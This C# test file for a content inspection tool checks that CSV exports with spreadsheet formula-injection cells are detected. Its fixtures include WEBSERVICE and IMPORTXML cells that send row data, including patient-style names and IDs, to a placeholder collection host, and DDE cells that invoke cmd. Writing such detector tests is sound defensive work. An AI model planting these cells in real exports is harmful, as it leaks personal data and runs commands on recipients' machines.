using System.Text;

namespace Vigie.Inspection.Tests.Text;

/// <summary>A CSV export whose cell fetches a URL when a spreadsheet computes it, with the other cells in it.</summary>
public sealed class CsvFetchTests
{
    [Fact]
    public async Task Regression_a_csv_cell_that_sends_the_sheet_to_a_url_by_webservice_was_clean()
    {
        var csv = "nom;prenom;ipp\nDUPONT;JEANNE;123456\n\"=WEBSERVICE(\"\"https://collect.example.invalid/?d=\"\"&A2&B2&C2)\";x;y\n";
        var verdict = await TestInspection.InspectAsync(Encoding.UTF8.GetBytes(csv), "export.csv");

        verdict.IsSuspicious();
        Assert.Contains("line 3", verdict.Has("csv.external-fetch").Message, StringComparison.Ordinal);

        var sheets = "a,b\n=IMPORTXML(CONCAT(\"https://collect.example.invalid/?\",A1),\"//a\"),1\n";
        (await TestInspection.InspectAsync(Encoding.UTF8.GetBytes(sheets), "export.csv")).Has("csv.external-fetch");
    }

    /// <summary>
    /// Regression (review 31, defect 10): a CSV saved as UTF-16 (Excel's "Unicode Text", which Excel and LibreOffice
    /// open and compute) with a WEBSERVICE cell or LibreOffice's DDE() was clean: the gate before the line check looked
    /// for the ASCII bytes of those words. It looks for them as the text's encoding writes them.
    /// </summary>
    [Fact]
    public async Task Regression_a_utf16_csv_with_webservice_or_dde_cells_was_clean()
    {
        const string fetch = "name,value\r\nA,1\r\n=WEBSERVICE(\"http://collect.example.invalid/?\"&A1),2\r\n";
        const string dde = "a,b\r\n=DDE(\"cmd\";\"/C echo inert\";\"A0\"),1\r\n";
        foreach (var encoding in new Encoding[] { Encoding.Unicode, Encoding.BigEndianUnicode, new UnicodeEncoding(false, false), new UnicodeEncoding(true, false) })
        {
            var bytes = encoding.GetPreamble().Concat(encoding.GetBytes(fetch)).ToArray();
            (await TestInspection.InspectAsync(bytes, "export.csv")).Has("csv.external-fetch");
            var verdict = await TestInspection.InspectAsync(encoding.GetPreamble().Concat(encoding.GetBytes(dde)).ToArray(), "export.csv");
            verdict.Has("csv.dde-injection");
            verdict.IsMalicious();
        }

        (await TestInspection.InspectAsync(Encoding.Unicode.GetPreamble().Concat(Encoding.Unicode.GetBytes("nom,service\r\nDUPONT,IMPORT nocturne\r\n")).ToArray(), "export.csv")).IsClean();
    }

    /// <summary>
    /// Regression (review 31, defect 14): a CSV export with a DDE cell and a WEBSERVICE cell, and a free-text cell
    /// mentioning "&lt;html&gt;" on a later line, was typed a page and clean. The cell checks run on pages too.
    /// </summary>
    [Fact]
    public async Task Regression_a_csv_with_html_in_a_free_text_cell_was_typed_html_and_its_dde_cells_unread()
    {
        var csv = "name,value\n=WEBSERVICE(\"http://collect.example.invalid/?\"&A1),2\n=cmd|' /C echo inert'!A0,1\nnote,\"the <html> export failed\"\n";
        var verdict = await TestInspection.InspectAsync(Encoding.UTF8.GetBytes(csv), "export.csv");
        Assert.Equal(nameof(ContentType.Html), verdict.ContentType);
        verdict.Has("csv.external-fetch");
        verdict.Has("csv.dde-injection");
        verdict.IsMalicious();

        // A page with a table and a pipe in its text is a page.
        (await TestInspection.InspectAsync("<!doctype html>\n<html><body><table><tr><td>IRM | Scanner</td><td>-5 | 3 !</td></tr></table></body></html>\n"u8.ToArray(), "page.html")).IsClean();
    }

    [Fact]
    public async Task The_function_named_in_plain_text_or_a_dde_cell_after_it_are_told_apart()
    {
        (await TestInspection.InspectAsync("Les résultats sont importés par le WEBSERVICE du laboratoire (IMPORT nocturne).\n"u8.ToArray(), "note.txt")).IsClean();

        var both = "a,b\n=WEBSERVICE(\"https://x.example.invalid/\"),1\n=cmd|' /C calc'!A0,2\n";
        var verdict = await TestInspection.InspectAsync(Encoding.UTF8.GetBytes(both), "export.csv");
        verdict.Has("csv.external-fetch");
        verdict.Has("csv.dde-injection");
        verdict.IsMalicious();
    }
}
